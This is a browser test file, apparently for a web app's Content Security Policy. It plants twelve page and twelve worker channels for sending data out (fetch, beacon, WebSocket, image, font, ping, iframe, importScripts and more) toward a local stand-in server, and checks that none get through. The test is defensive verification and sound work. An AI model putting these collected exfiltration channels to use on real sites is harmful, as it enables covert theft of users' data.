// Twelve ways to carry data away, planted into the page and into the worker: none arrives anywhere. The same twelve arrive
// where the site has no policy, so the statement can fail.
import { rm } from "node:fs/promises";
import { siteWithoutPolicy } from "../fixtures/bare.mjs";
import { startStranger } from "../fixtures/stranger.mjs";

export const name = "nothing that is planted into page or worker reaches anybody";
export const screens = ["desktop"];
export const langs = ["en"];

export async function run(tools) {
  const { openApp, personAt, startServer, site, server, equal, ok, eventually, browser, contextOptions } = tools;
  const stranger = await startStranger();
  const { page, watch } = await openApp({
    expectErrors: [/Content Security Policy|Failed to load|Refused to|violates|net::ERR|MIME|blocked|connection|planted/i],
  });
  const person = personAt(page);
  await person.opened();

  // The worker is strict from its first moment: not even its own site hears from it.
  const worker = await eventually(() => page.workers()[0], "the page has no worker");
  server.clear();
  await worker.evaluate(plantInWorker, stranger.url);
  await worker.evaluate(plantInWorker, `${server.url}carried-`);
  equal(stranger.arrived, [], "the worker reached another host");
  equal(carried(server).filter((path) => !isOwnScript(path)), [], "the worker reached its own site by more than scripts");

  // The page, before it is locked: other hosts hear nothing.
  await page.evaluate(plantInPage, stranger.url);
  equal(stranger.arrived, [], "the page reached another host");

  // Once all of the program is here the page locks itself, and then its own site hears nothing either.
  await eventually(() => page.locator("meta[data-lock]").count(), "the page never locked itself", { timeout: 60_000 });
  server.clear();
  await page.evaluate(plantInPage, `${server.url}carried-`);
  await page.evaluate(plantInPage, stranger.url);
  equal(stranger.arrived, [], "the locked page reached another host");
  equal(carried(server).filter((path) => !isOwnScript(path)), [], "the locked page reached its own site by more than scripts");

  // Everything still works, a new worker included.
  await worker.evaluate(() => void setTimeout(() => self.postMessage("planted panic")));
  await eventually(() => page.workers().find((one) => one !== worker), "no other worker was started after the lock");
  await person.opened();
  await person.addContact({ name: "After The Lock", phone: "0501234567" });
  watch.addresses.length = 0;

  // The twin: without a policy every channel arrives.
  const bare = await siteWithoutPolicy(site);
  const open = await startServer(bare);
  const other = await browser.newContext(contextOptions());
  const unguarded = await other.newPage();
  await unguarded.goto(open.url);
  await personAt(unguarded).opened();
  const channels = async (plant, where) => {
    stranger.arrived.length = 0;
    await where.evaluate(plant, stranger.url);
    await eventually(() => new Set(stranger.arrived.map(channelOf)).size >= 10, `too few channels arrive without a policy: ${stranger.arrived}`);
    return new Set(stranger.arrived.map(channelOf)).size;
  };
  const inPage = await channels(plantInPage, unguarded);
  ok(inPage >= 11, `only ${inPage} of 12 channels of the page can be seen`);
  const free = await eventually(() => unguarded.workers()[0], "the page has no worker");
  stranger.arrived.length = 0;
  await free.evaluate(plantInWorker, stranger.url);
  await eventually(() => new Set(stranger.arrived.map(channelOf)).size >= 6, `too few channels of the worker arrive: ${stranger.arrived}`);
  await other.close();
  await open.close();
  await rm(bare, { recursive: true });
  await stranger.close();
}

const channelOf = (path) => path.replace(/^\//, "").split(".")[0];

/** What of the planted calls reached the page's own site. */
const carried = (server) => server.requests.map(({ path }) => path).filter((path) => path.includes("carried-"));

/** Own scripts and prefetches are the limit of what a policy can forbid: `script-src 'self'` is how the program is loaded. */
const isOwnScript = (path) => /carried-(import|nested|scripts|prefetch)\./.test(path);

/** Runs in the page: each channel asks for a file named after it. */
async function plantInPage(url) {
  const at = (channel, kind = "txt") => `${url}${channel}.${kind}?secret=1`;
  const element = (tag, properties) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(tag), properties);
      made.onload = resolve;
      made.onerror = resolve;
      document.body.append(made);
      setTimeout(resolve, 500);
    });
  const later = (make) => new Promise((resolve) => {
    const made = make();
    made.onerror = resolve;
    made.onload = resolve;
    setTimeout(resolve, 500);
  });
  const ways = [
    () => fetch(at("fetch"), { mode: "no-cors" }),
    () => later(() => { const xhr = new XMLHttpRequest(); xhr.open("GET", at("xhr")); xhr.send(); return xhr; }),
    () => navigator.sendBeacon(at("beacon"), "x"),
    () => later(() => new WebSocket(at("socket").replace("http", "ws"))),
    () => later(() => new EventSource(at("events"))),
    () => element("img", { src: at("image", "svg") }),
    () => element("link", { rel: "stylesheet", href: at("style", "css") }),
    () => new FontFace("planted", `url("${at("font")}")`).load(),
    () => {
      const link = Object.assign(document.createElement("a"), { href: "#planted", ping: at("ping") });
      document.body.append(link);
      link.click();
    },
    () => element("iframe", { src: at("frame", "html") }),
    () => import(at("import", "js")),
    () => element("link", { rel: "prefetch", href: at("prefetch") }),
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
  await new Promise((resolve) => setTimeout(resolve, 700));
  location.hash = "#/";
}

/** Runs in the worker. What a worker does not have is no channel. */
async function plantInWorker(url) {
  const at = (channel, kind = "txt") => `${url}${channel}.${kind}?secret=1`;
  const later = (make) => new Promise((resolve) => {
    const made = make();
    made.onerror = resolve;
    made.onload = resolve;
    setTimeout(resolve, 500);
  });
  const ways = [
    () => fetch(at("fetch"), { mode: "no-cors" }),
    () => fetch(at("keepalive"), { mode: "no-cors", keepalive: true }),
    () => later(() => { const xhr = new XMLHttpRequest(); xhr.open("GET", at("xhr")); xhr.send(); return xhr; }),
    () => navigator.sendBeacon?.(at("beacon"), "x"),
    () => later(() => new WebSocket(at("socket").replace("http", "ws"))),
    () => later(() => new EventSource(at("events"))),
    () => import(at("import", "js")),
    () => importScripts(at("scripts", "js")),
    () => new FontFace("planted", `url("${at("font")}")`).load(),
    async () => (await caches.open("planted")).add(at("cache")),
    () => later(() => new Worker(at("nested", "js"), { type: "module" })),
    () => later(() => new SharedWorker(at("shared", "js"))),
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
  await new Promise((resolve) => setTimeout(resolve, 700));
}
